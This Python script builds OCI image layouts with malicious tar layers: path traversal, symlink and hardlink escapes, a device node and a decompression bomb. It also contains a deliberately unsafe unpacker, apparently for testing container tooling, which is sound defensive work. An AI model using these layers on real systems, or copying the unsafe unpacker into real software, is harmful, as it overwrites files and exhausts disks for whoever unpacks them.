"""Makes OCI layouts whose layer attacks whoever unpacks it, and unpacks one as a trusting program would.
usage: hostile.py KIND LAYOUT TARGET | hostile.py --unpack LAYOUT DIRECTORY"""
import gzip, hashlib, io, json, os, platform, sys, tarfile


def member(tar, name, kind=tarfile.REGTYPE, link="", data=b"evil", **more):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    info.mode = 0o644
    for key, value in more.items():
        setattr(info, key, value)
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if info.size else None)


def attack(kind, target):
    """The members, as (arguments, options)."""
    up = "../" * 20
    return {
        "dotdot": [(("x/" + up + target + "/new",), {})],
        "absolute": [((target + "/new",), {})],
        "symlink": [(("out", tarfile.SYMTYPE, target), {}), (("out/new",), {})],
        # A slash with a combining mark behind it, which a reader of characters takes for another character.
        "marked": [(("out", tarfile.SYMTYPE, target), {}), (("out/\u0301new",), {})],
        "nested": [
            (("one", tarfile.SYMTYPE, up + target), {}), (("two", tarfile.SYMTYPE, "one"), {}), (("two/new",), {})],
        "hardlink": [(("hard", tarfile.LNKTYPE, up + target + "/file"), {}), (("hard",), {})],
        "device": [(("dev", tarfile.DIRTYPE), {}), (("dev/kmem", tarfile.CHRTYPE), {"devmajor": 1, "devminor": 2})],
    }[kind]


def layer(kind, target):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for arguments, options in attack(kind, target):
            member(tar, *arguments, **options)
    return buffer.getvalue(), hashlib.sha256(buffer.getvalue()).hexdigest()


def bomb():
    """A file of 100 GiB of zeros, of which the first few are there."""
    info = tarfile.TarInfo("zeros")
    info.size = 100 << 30
    head = info.tobuf(tarfile.GNU_FORMAT)
    return gzip.compress(head + bytes(16 << 20)), hashlib.sha256(head).hexdigest()


def write(layout, packed, digest):
    os.makedirs(layout + "/blobs/sha256")

    def blob(data, kind):
        name = hashlib.sha256(data).hexdigest()
        with open(f"{layout}/blobs/sha256/{name}", "wb") as file:
            file.write(data)
        return {"mediaType": f"application/vnd.oci.image.{kind}", "digest": "sha256:" + name, "size": len(data)}

    machine = {"x86_64": "amd64", "aarch64": "arm64"}[platform.machine()]
    config = {"architecture": machine, "os": "linux", "rootfs": {"type": "layers", "diff_ids": ["sha256:" + digest]}}
    packing = "+gzip" if packed[:2] == b"\x1f\x8b" else ""
    manifest = {
        "schemaVersion": 2, "config": blob(json.dumps(config).encode(), "config.v1+json"),
        "layers": [blob(packed, "layer.v1.tar" + packing)]}
    index = {"schemaVersion": 2, "manifests": [blob(json.dumps(manifest).encode(), "manifest.v1+json")]}
    for name, value in (("index.json", index), ("oci-layout", {"imageLayoutVersion": "1.0.0"})):
        with open(f"{layout}/{name}", "w") as file:
            json.dump(value, file)


def unpack(layout, directory):
    """As a program that believes every name: each is joined to the directory, links are followed."""
    blobs = f"{layout}/blobs/sha256/"
    index = json.load(open(layout + "/index.json"))
    manifest = json.load(open(blobs + index["manifests"][0]["digest"][7:]))
    with tarfile.open(blobs + manifest["layers"][0]["digest"][7:]) as tar:
        for info in tar:
            path = os.path.join(directory, info.name)
            if "/" in info.name and not os.path.isdir(os.path.dirname(path)):
                os.makedirs(os.path.dirname(path), exist_ok=True)
            if info.issym():
                os.symlink(info.linkname, path)
            elif info.islnk():
                os.link(os.path.join(directory, info.linkname), path)
            elif info.isreg():
                with open(path, "wb") as file:
                    file.write(tar.extractfile(info).read())


if sys.argv[1] == "--unpack":
    unpack(sys.argv[2], sys.argv[3])
elif sys.argv[1] == "bomb":
    write(sys.argv[2], *bomb())
else:
    write(sys.argv[2], *layer(sys.argv[1], sys.argv[3]))
